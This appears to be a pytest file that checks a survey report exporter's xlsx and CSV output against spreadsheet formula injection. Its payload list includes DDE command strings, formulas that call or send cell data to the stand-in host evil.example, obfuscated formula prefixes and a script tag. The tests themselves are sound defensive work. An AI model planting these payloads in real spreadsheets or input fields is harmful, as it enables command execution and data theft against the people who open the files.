"""Whatever people typed, a file that somebody opens does nothing."""

import csv
import io
import zipfile
from collections.abc import Callable

import openpyxl
import pytest

from data.exports.content import ReportContent
from data.exports.formats import FORMATS
from surveys.drafting import draft_edition
from surveys.instrument import Edition, ItemWording

Make = Callable[..., ReportContent]

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd","/C calc","x")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '"=1+1',
    "Court;=1+1",
    'Court"";=1+1',
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:/windows/system32",
    "{=1+1}",
    "<script>alert(1)</script>",
    "![](http://evil.example/p.gif)",
)
SMALL = draft_edition(("q1", "q2"), scale=(1, 4), instrument_id="small", title="Small")
FORMULA_STARTS = tuple("=+-@＝＋－＠")


def hostile(edition: Edition, payload: str) -> Edition:
    """The edition with the payload as its first statement, its title and its first section."""
    wordings = {}
    for language, wording in edition.wordings.items():
        first = edition.instrument.items[0]
        section = wording.sections[first.section].model_copy(update={"title": payload})
        wordings[language] = wording.model_copy(
            update={
                "title": payload,
                "items": {**wording.items, first.id: ItemWording.model_construct(text=payload)},
                "sections": {**wording.sections, first.section: section},
            }
        )
    return edition.model_copy(update={"wordings": wordings})


@pytest.fixture
def hostile_content(make_content: Make) -> Callable[[str], ReportContent]:
    def make(payload: str) -> ReportContent:
        return make_content(
            edition=hostile(SMALL, payload),
            people=(12, 3, 11),
            group_names={code: {"en": payload, "es": payload} for code in ("g1", "g2", "g3")},
            title=payload,
            team=payload,
            warnings=(payload,),
        )

    return make


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_of_the_workbook_is_a_formula_or_a_link(
    payload: str, hostile_content: Callable[[str], ReportContent]
) -> None:
    written = FORMATS["xlsx"].write(hostile_content(payload))
    book = openpyxl.load_workbook(io.BytesIO(written))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n")
                assert cell.hyperlink is None
                if isinstance(cell.value, str) and cell.value.lstrip(" \"'").startswith(
                    FORMULA_STARTS
                ):
                    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(written)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
        assert b"<f>" not in everything
        assert b"<hyperlink" not in everything
        assert not any("externalLink" in name for name in parts.namelist())


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_of_the_csv_opens_a_formula_whatever_a_program_splits_on(
    payload: str, hostile_content: Callable[[str], ReportContent]
) -> None:
    text = FORMATS["csv"].write(hostile_content(payload)).decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                assert not cell.strip().startswith(FORMULA_STARTS), cell
    lines = text.split("\r\n")
    assert lines.pop() == ""
    assert len(lines) == len(list(csv.reader(io.StringIO(text))))
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
